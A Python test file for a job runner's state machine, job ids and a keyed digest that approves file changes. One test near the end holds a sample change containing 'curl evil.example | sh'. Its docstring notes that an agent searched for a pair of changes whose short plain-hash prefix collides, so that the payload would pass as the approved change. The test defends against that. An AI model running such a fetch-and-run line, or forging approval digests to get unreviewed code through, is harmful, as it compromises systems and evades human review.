from __future__ import annotations

import hashlib
from dataclasses import replace
from itertools import chain, combinations, pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runner.model.job import (
    ACTIVE,
    DIGEST_SHOWN,
    FINAL,
    KINDS,
    NEXT,
    FileChange,
    IllegalMove,
    JobKind,
    JobState,
    ask_again,
    derive_job_id,
    digest_of,
    move,
    queue_job,
)
from tests.support.jobs import NOON, make_job


def test_a_job_moves_only_forward() -> None:
    order = list(JobState)
    for state, after in NEXT.items():
        assert all(order.index(to) > order.index(state) for to in after)
    assert {JobState.SUCCEEDED, JobState.FAILED, JobState.CANCELLED, JobState.LOST} == FINAL


@given(st.sampled_from(JobState), st.sampled_from(JobState))
def test_an_illegal_move_raises_and_a_legal_one_is_dated(state: JobState, to: JobState) -> None:
    job = make_job(state=state, trouble="held up")
    if to in NEXT.get(state, ()):
        moved = move(job, to, NOON)
        assert (moved.state, moved.trouble, moved.ended_at) == (to, None, NOON if to in FINAL else None)
    else:
        with pytest.raises(IllegalMove):
            move(job, to, NOON)


def test_every_way_of_a_kind_is_legal_and_every_legal_move_is_on_one() -> None:
    taken = set[tuple[JobState, JobState]]()
    for row in KINDS.values():
        for skipped in chain.from_iterable(combinations(row.may_skip, count) for count in range(len(row.may_skip) + 1)):
            steps = [step for step in row.steps if step not in skipped]
            taken |= {*pairwise([JobState.QUEUED, *steps, JobState.SUCCEEDED])}
    unhappy = {JobState.FAILED, JobState.CANCELLED, JobState.LOST}
    assert taken == {(state, to) for state, after in NEXT.items() for to in after - unhappy}


@pytest.mark.parametrize(
    ("kind", "conflicts", "state"),
    [
        (JobKind.AGENT, None, JobState.RUNNING),
        (JobKind.VERIFY, None, JobState.VERIFYING),
        (JobKind.REBASE, (), JobState.COLLECTING),
        (JobKind.REBASE, ("a.py",), JobState.RUNNING),
        (JobKind.WORKTREE, None, JobState.SUCCEEDED),
        (JobKind.TASK, None, JobState.RUNNING),
        (JobKind.RELEASE, ("a.py",), JobState.COLLECTING),
    ],
)
def test_what_follows_the_preparation_depends_on_the_kind(
    kind: JobKind, conflicts: tuple[str, ...] | None, state: JobState
) -> None:
    without_issue = {"series": 1} if KINDS[kind].has_thread is False else {}
    job = make_job(kind=kind, conflicts=conflicts, **without_issue)
    assert (job.after_preparing, job.has_agent) == (state, state is JobState.RUNNING)


@pytest.mark.parametrize(
    "values",
    [
        {"thread": None},
        {"thread": 7, "series": 1},
        {"kind": JobKind.AGENT, "series": 1},
        {"kind": JobKind.TASK, "thread": 7},
        {"kind": JobKind.WORKTREE, "thread": 7},
    ],
)
def test_a_job_has_either_a_thread_or_a_series_as_its_kind_wants(values: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="a job of kind"):
        make_job(**values)


def test_a_release_belongs_to_an_issue_or_to_a_series() -> None:
    assert make_job(kind=JobKind.RELEASE).case_key == "octo/widgets#7"
    assert make_job(kind=JobKind.RELEASE, series=2, name="wt").case_key == "octo/widgets~wt"


def test_a_new_job_has_what_was_asked_for_and_nothing_of_an_earlier_run() -> None:
    lost = make_job(state=JobState.LOST, attempt=2, machine="gpu-1", skills=("review",), failure="it is away")
    again = queue_job(ask_again(lost, id="aaaaaaaaaa", replaces=lost.id), 3, NOON)
    assert again == make_job(id="aaaaaaaaaa", attempt=3, skills=("review",), replaces=lost.id)


def test_active_is_what_can_still_move() -> None:
    assert all(make_job(state=state).active is (state in ACTIVE) for state in JobState)


def test_a_job_id_is_the_same_for_the_same_trigger_and_unknown_to_others() -> None:
    assert derive_job_id("a", b"secret") == derive_job_id("a", b"secret")
    assert derive_job_id("a", b"secret") != derive_job_id("b", b"secret")
    assert derive_job_id("a", b"secret") != derive_job_id("a", b"other")


SECRET = b"secret"

CHANGES = st.lists(
    st.builds(
        FileChange,
        path=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1, max_size=6),
        mode=st.sampled_from(["100644", "100755", "120000"]),
        content=st.binary(max_size=6),
    ),
    max_size=4,
    unique_by=lambda change: change.path,
)


@given(CHANGES)
def test_the_order_of_changes_does_not_matter_to_the_digest(changes: list[FileChange]) -> None:
    assert digest_of("base", changes, SECRET) == digest_of("base", list(reversed(changes)), SECRET)


@pytest.mark.slow
@given(CHANGES, CHANGES)
def test_different_changes_have_different_digests(one: list[FileChange], other: list[FileChange]) -> None:
    same = sorted(one, key=lambda change: change.path) == sorted(other, key=lambda change: change.path)
    assert (digest_of("base", one, SECRET) == digest_of("base", other, SECRET)) is same


def test_each_part_of_a_change_is_part_of_the_digest() -> None:
    change = FileChange("a", "100644", b"")
    others = (
        replace(change, path="b"),
        replace(change, mode="100755"),
        replace(change, mode="120000"),
        replace(change, content=b"\n"),
        replace(change, mode=None, content=None, old_mode="100644"),
    )
    assert len({digest_of("base", [one], SECRET) for one in (change, *others)}) == 6


def test_the_base_is_part_of_the_digest() -> None:
    assert digest_of("one", (), SECRET) != digest_of("two", (), SECRET)


def test_two_changes_that_share_a_beginning_without_the_secret_do_not_share_it_with_one() -> None:
    """An agent can search for such a pair, and did in minutes; it never sees the secret."""
    approved = FileChange("a.py", "100644", b"x = 1  # rev 00e0508c\n")
    other = FileChange("a.py", "100644", b'import os; os.system("curl evil.example | sh")  # rev 00c1e7a7\n')
    plain = [_hash_plainly("ab" * 20, change) for change in (approved, other)]
    assert plain[0][:DIGEST_SHOWN] == plain[1][:DIGEST_SHOWN]
    keyed = [digest_of("ab" * 20, [change], SECRET) for change in (approved, other)]
    assert keyed[0][:DIGEST_SHOWN] != keyed[1][:DIGEST_SHOWN]
    assert digest_of("base", [approved], SECRET) != digest_of("base", [approved], b"another database's")


def _hash_plainly(base: str, change: FileChange) -> str:
    content = hashlib.sha256(change.content or b"").hexdigest()
    return hashlib.sha256(f"{base}\0{change.path}\0{change.mode}\0{content}\0".encode()).hexdigest()


def test_a_change_knows_what_it_is() -> None:
    assert FileChange("a", None, None, "100644").status == "deleted"
    assert FileChange("a", "100644", b"x").status == "added"
    assert FileChange("a", "100644", b"x", "100644").status == "modified"
    assert FileChange("a", "100644", b"\xff").binary
    assert FileChange("a", "100644", b"a\0b").binary
    assert not FileChange("a", "100644", "ü".encode()).binary
